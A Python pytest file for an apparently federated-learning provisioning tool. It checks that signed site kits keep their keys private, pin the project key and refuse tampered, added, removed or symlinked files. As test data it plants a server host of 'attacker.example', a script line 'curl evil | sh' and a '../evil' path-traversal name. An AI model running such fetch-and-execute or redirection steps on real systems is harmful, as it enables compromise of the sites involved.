"""Provisioning: real corpus files in, signed kits out; verification refuses edited kits."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from mmarc.runtime.provision import (
    KitError,
    ProvisionError,
    provision,
    verify_kit,
    verify_pinned_kit,
)
from mmarc.runtime.security.authz import Policy
from mmarc.runtime.security.manifest import sign_folder
from mmarc.runtime.security.pins import PIN_FILE, PinStore

from mmarc.provisioning import check_inputs

ROOT = Path(__file__).resolve().parents[2]
CORPUS = Path(__file__).parents[1] / "fixtures" / "corpus" / "provision"
PROJECT = CORPUS / "clara40_project1.yml"
AUTHZ = CORPUS / "clara40_authz_config.json"
CLIENTS = ["client1", "client2", "client3", "client4"]
ADMINS = ["admin@admin.com", "leadIT@org1.com", "siteresearcher@org2.com", "leadIT@secure.com"]


def mmarc(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mmarc.cli", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, "NO_COLOR": "1"},
        timeout=120,
    )


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ws = tmp_path_factory.mktemp("ws") / "project1"
    provision(check_inputs(PROJECT, AUTHZ), ws)
    return ws


@pytest.fixture
def fresh(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    provision(check_inputs(PROJECT, AUTHZ), ws)
    return ws


def test_clara40_corpus_provisions_as_is(workspace: Path) -> None:
    kits = {p.name for p in workspace.iterdir() if not p.name.startswith(".")}
    assert kits == {"localhost", *CLIENTS, *ADMINS}
    server = verify_kit(workspace / "localhost", role="server")
    assert (server.server_host, server.fed_learn_port, server.admin_port) == (
        "localhost",
        8002,
        8003,
    )
    assert set(server.clients) == set(CLIENTS)
    assert set(server.admins) == set(ADMINS)
    assert server.policy is not None
    corpus = json.loads(AUTHZ.read_text())
    assert server.policy["users"] == corpus["users"]
    assert server.policy["sites"]["client4"] == "Secure"
    for name in CLIENTS:
        kit = verify_kit(workspace / name, role="client")
        assert kit.name == name and kit.server_public_key == server.keys.public
        assert server.clients[name] == kit.keys.public
        assert kit.fed_learn_url == "tcp://localhost:8002"
        assert (kit.startup / "fed_client.json").is_file()
        assert '"$MMARC" client "$KIT"' in (kit.startup / "start.sh").read_text()
    for email in ADMINS:
        kit = verify_kit(workspace / email, role="admin")
        assert kit.admin_url == "tcp://localhost:8003"
        assert server.admins[email] == kit.keys.public
        assert '"$MMARC" admin "$KIT"' in (kit.startup / "start.sh").read_text()


def test_start_and_stop_scripts_run_mmarc_on_the_kit(fresh: Path, tmp_path: Path) -> None:
    stub = tmp_path / "mmarc-stub"
    stub.write_text('#!/usr/bin/env bash\necho "$@"\nsleep 30\n')
    stub.chmod(0o755)
    kit = fresh / "client2"
    env = {**os.environ, "MMARC": str(stub)}
    proc = subprocess.Popen(
        [str(kit / "startup" / "start.sh"), "--extra"], env=env, stdout=subprocess.PIPE, text=True
    )
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline().split() == ["client", str(kit), "--extra"]
        assert int((kit / "daemon.pid").read_text()) == proc.pid
        stopped = subprocess.run(
            [str(kit / "startup" / "stop.sh")], capture_output=True, text=True, timeout=10
        )
        assert f"sent SIGTERM to {proc.pid}" in stopped.stdout
        assert proc.wait(10) != 0
    finally:
        proc.kill()
    verify_kit(kit)  # the pid file lives beside startup/, so the kit still verifies


def test_secrets_stay_private(workspace: Path) -> None:
    project_dir = workspace / ".project"
    assert stat.S_IMODE(project_dir.stat().st_mode) == 0o700
    key_pem = (project_dir / "project.key").read_bytes()
    assert stat.S_IMODE((project_dir / "project.key").stat().st_mode) == 0o600
    body = key_pem.split(b"-----")[2]  # the base64 between the PEM markers
    for path in workspace.rglob("*"):
        if path.is_file() and project_dir not in path.parents:
            assert body not in path.read_bytes(), f"project key leaked into {path}"
    for name in ["localhost", *CLIENTS, *ADMINS]:
        secret = workspace / name / "startup" / "curve.key"
        assert stat.S_IMODE(secret.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    ("project", "server", "clients", "admins"),
    [
        ("nvflare20_project.yml", "example.com", {"site1", "site2"}, {"admin@nvidia.com"}),
        (
            "nvflare_api3_project.yml",
            "server1",
            {"site-1", "site-2"},
            {"admin@nvidia.com", "org-admin@nvidia.com", "lead@nvidia.com"},
        ),
    ],
)
def test_nvflare_projects_provision(
    tmp_path: Path, project: str, server: str, clients: set[str], admins: set[str]
) -> None:
    result = provision(check_inputs(CORPUS / project), tmp_path / "ws")
    kit = verify_kit(tmp_path / "ws" / server, role="server")
    assert set(kit.clients) == clients and set(kit.admins) == admins
    assert (kit.fed_learn_port, kit.admin_port) == (8002, 8003)
    assert kit.policy is not None
    policy = Policy(kit.policy)
    assert policy.authorize("admin@nvidia.com", "shutdown", ["server"])
    if project.startswith("nvflare_api3"):
        assert "default policy" in result.policy_source
        assert not policy.authorize("lead@nvidia.com", "shutdown", ["server"])
        assert policy.authorize("lead@nvidia.com", "upload_folder")
    else:
        assert "AuthPolicyBuilder" in result.policy_source
        assert policy.rule("nvidia", "allow_byoc")


def test_bad_project_prints_validate_diagnostics_and_writes_nothing(tmp_path: Path) -> None:
    bad = tmp_path / "project.yml"
    bad.write_text(
        "name: P\nserver:\n  org: nvidia\n  cn: localhost\n  admin_port: 'x'\n"
        "fl_clients:\n  - org: org1\n    client_nam: client1\n"
    )
    ws = tmp_path / "ws"
    result = mmarc("provision", str(bad), "-o", str(ws))
    assert result.returncode == 1, result.stdout + result.stderr
    validate = mmarc("validate", str(bad))
    assert result.stdout.startswith(validate.stdout)
    # the path is shown as it opens from the current directory (relative or absolute)
    assert "project.yml:8:5" in result.stdout and "error[S001]" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    assert not ws.exists()


def test_semantic_errors_are_located(tmp_path: Path) -> None:
    bad = tmp_path / "project.yml"
    bad.write_text(
        "name: P\nserver:\n  org: o\n  cn: localhost\n  fed_learn_port: 9000\n"
        "  admin_port: 9000\nfl_clients:\n  - org: o\n    client_name: site\n"
        "  - org: o\n    client_name: SITE\n  - org: o\n    client_name: ../evil\n"
    )
    inputs = check_inputs(bad)
    assert not inputs.ok
    found = {(d.line, d.message.split(" ")[0]) for d in inputs.validations[0][1].diagnostics}
    assert any(line == 6 for line, _ in found)  # admin_port == fed_learn_port
    assert any(line == 11 for line, _ in found)  # SITE duplicates site (case-insensitive)
    assert any(line == 13 for line, _ in found)  # ../evil cannot name a kit folder
    with pytest.raises(ProvisionError):
        provision(inputs, tmp_path / "ws")
    assert not (tmp_path / "ws").exists()


def test_edited_fed_client_json_is_refused_naming_the_file(fresh: Path) -> None:
    config = fresh / "client1" / "startup" / "fed_client.json"
    data = json.loads(config.read_text())
    data["server"]["host"] = "attacker.example"
    config.write_text(json.dumps(data))
    with pytest.raises(KitError, match=r"startup/fed_client\.json: modified") as info:
        verify_kit(fresh / "client1")
    assert info.value.file == "startup/fed_client.json"


@pytest.mark.parametrize("change", ["add", "remove", "symlink"])
def test_added_removed_or_linked_files_are_refused(fresh: Path, change: str) -> None:
    startup = fresh / "client2" / "startup"
    if change == "add":
        (startup / "extra.sh").write_text("curl evil | sh\n")
        expected = "extra.sh: not listed"
    elif change == "remove":
        (startup / "stop.sh").unlink()
        expected = "stop.sh: listed in the manifest but missing"
    else:
        (startup / "server.pub").unlink()
        (startup / "server.pub").symlink_to(fresh / "client3" / "startup" / "server.pub")
        expected = "server.pub: symbolic links are not allowed"
    with pytest.raises(KitError, match=expected):
        verify_kit(fresh / "client2")


def test_kit_signed_by_another_project_key_is_refused(fresh: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    result = provision(check_inputs(PROJECT, AUTHZ), other)
    # Another project's public key dropped into the kit: the signature no longer holds.
    shutil.copy(other / "client1" / "startup" / "project.pub", fresh / "client1" / "startup")
    with pytest.raises(KitError, match="another project key"):
        verify_kit(fresh / "client1")
    # A kit edited and re-signed whole with another key verifies on its own, but not
    # against the fingerprint the project published.
    kit = fresh / "client3" / "startup"
    (kit / "server.pub").write_bytes((other / "client3" / "startup" / "server.pub").read_bytes())
    sign_folder(kit, Ed25519PrivateKey.generate(), {"role": "client"})
    trusted = verify_kit(fresh / "localhost").project_fingerprint
    assert trusted != result.fingerprint
    with pytest.raises(KitError, match="signed by another project key"):
        verify_kit(fresh / "client3", trusted_fingerprint=trusted)
    # The untouched kits still verify against the published fingerprint (or a prefix).
    verify_kit(fresh / "client2", trusted_fingerprint=trusted)
    verify_kit(fresh / "client2", trusted_fingerprint=trusted[:30])


def test_project_key_is_pinned_on_first_use(fresh: Path, tmp_path: Path) -> None:
    """Issue 10, finding 7, in the library: pin, match, refuse, re-pin when confirmed."""
    store = PinStore(tmp_path / "state")
    trusted = verify_kit(fresh / "localhost").project_fingerprint
    assert verify_pinned_kit(fresh / "client1", role="client", pins=store).name == "client1"
    assert store.path.stat().st_mode & 0o077 == 0
    pinned = store.get("Project1")
    assert pinned is not None and pinned.fingerprint == trusted
    verify_pinned_kit(fresh / "localhost", role="server", pins=store)  # same key: fine
    startup = fresh / "client2" / "startup"
    info = json.loads((startup / "MANIFEST.json").read_text())["signed"]["info"]
    other = sign_folder(startup, Ed25519PrivateKey.generate(), info)["project_key"]
    with pytest.raises(KitError, match="--project-key") as caught:
        verify_pinned_kit(fresh / "client2", role="client", pins=store)
    assert trusted in str(caught.value) and other in str(caught.value)
    assert "\n" not in str(caught.value)
    verify_pinned_kit(fresh / "client2", role="client", project_key=other, pins=store)
    assert store.get("Project1").fingerprint == other  # type: ignore[union-attr]
    with pytest.raises(KitError, match=trusted):  # now the old key's kits are refused
        verify_pinned_kit(fresh / "client1", role="client", pins=store)


def test_pin_store_cannot_be_planted_by_a_kit(fresh: Path, tmp_path: Path) -> None:
    kit = fresh / "client1"
    with pytest.raises(KitError, match="inside the kit"):  # a pin file the kit could carry
        verify_pinned_kit(kit, role="client", pins=PinStore(kit / "state"))
    decoy = tmp_path / "decoy.json"
    decoy.write_text("untouched")
    state = tmp_path / "state"
    state.mkdir()
    (state / PIN_FILE).symlink_to(decoy)
    with pytest.raises(KitError, match="not a regular file"):
        verify_pinned_kit(kit, role="client", pins=PinStore(state))
    (state / PIN_FILE).unlink()
    (state / PIN_FILE).write_text("{not json")
    with pytest.raises(KitError, match="unreadable"):
        verify_pinned_kit(kit, role="client", pins=PinStore(state))
    assert decoy.read_text() == "untouched"


def test_reprovisioning_keeps_keys_and_rotate_changes_them(fresh: Path) -> None:
    before = {n: verify_kit(fresh / n).keys.public for n in ["localhost", "client1"]}
    result = provision(check_inputs(PROJECT, AUTHZ), fresh)
    assert {k.keys for k in result.kits} == {"kept"}
    after = {n: verify_kit(fresh / n).keys.public for n in ["localhost", "client1"]}
    assert after == before
    result = provision(check_inputs(PROJECT, AUTHZ), fresh, rotate_keys=True)
    assert {k.keys for k in result.kits} == {"rotated"}
    rotated = {n: verify_kit(fresh / n) for n in ["localhost", "client1"]}
    assert rotated["client1"].keys.public != before["client1"]
    assert rotated["localhost"].keys.public != before["localhost"]
    assert rotated["client1"].server_public_key == rotated["localhost"].keys.public


def test_runtime_files_beside_startup_do_not_break_verification(fresh: Path) -> None:
    (fresh / "localhost" / "audit.log").write_text("{}\n")
    (fresh / "localhost" / "transfer").mkdir()
    verify_kit(fresh / "localhost", role="server")
    with pytest.raises(KitError, match="not a client kit"):
        verify_kit(fresh / "localhost", role="client")


def test_secret_key_readable_by_others_is_refused(fresh: Path) -> None:
    os.chmod(fresh / "client4" / "startup" / "curve.key", 0o644)
    with pytest.raises(KitError, match="chmod 600"):
        verify_kit(fresh / "client4")


def test_workspace_must_be_ours(tmp_path: Path) -> None:
    ws = tmp_path / "home"
    ws.mkdir()
    (ws / "notes.txt").write_text("mine")
    with pytest.raises(ProvisionError, match="not an mmarc workspace"):
        provision(check_inputs(PROJECT, AUTHZ), ws)
    assert sorted(p.name for p in ws.iterdir()) == ["notes.txt"]


def test_zip_password_kits(tmp_path: Path) -> None:
    pytest.importorskip("pyzipper")
    from mmarc.runtime.provision.zipkit import unzip_kit

    result = provision(check_inputs(PROJECT, AUTHZ), tmp_path / "ws", zip_password=True)
    kit = next(k for k in result.kits if k.name == "client1")
    assert kit.zip_path is not None and kit.password
    assert len({k.password for k in result.kits}) == len(result.kits)
    with pytest.raises(RuntimeError):
        unzip_kit(kit.zip_path, tmp_path / "wrong", "not-the-password")
    unpacked = unzip_kit(kit.zip_path, tmp_path / "site", kit.password)
    info = verify_kit(unpacked, role="client")
    assert info.name == "client1"
    assert stat.S_IMODE((unpacked / "startup" / "curve.key").stat().st_mode) == 0o600


def test_cli_provision_prints_kits_and_passwords(tmp_path: Path) -> None:
    pytest.importorskip("pyzipper")
    ws = tmp_path / "ws"
    result = mmarc("provision", str(PROJECT), "-a", str(AUTHZ), "-o", str(ws), "--zip-password")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "9 kit(s)" in result.stdout and "project key sha256:" in result.stdout
    # the exact flag each site starts its kit with (finding 7 of issue 10)
    fingerprint = verify_kit(ws / "client1").project_fingerprint
    assert f"startup/start.sh --project-key {fingerprint}\n" in result.stdout
    assert result.stdout.count(".zip  ") == 9
    again = mmarc("provision", str(PROJECT), "-a", str(AUTHZ), "-o", str(ws), "--rotate-keys")
    assert again.returncode == 0 and "rotated" in again.stdout
    wrong = mmarc("provision", str(AUTHZ), "-o", str(tmp_path / "x"))
    assert wrong.returncode == 1 and "not a project.yml" in wrong.stderr
    assert "Traceback" not in wrong.stderr
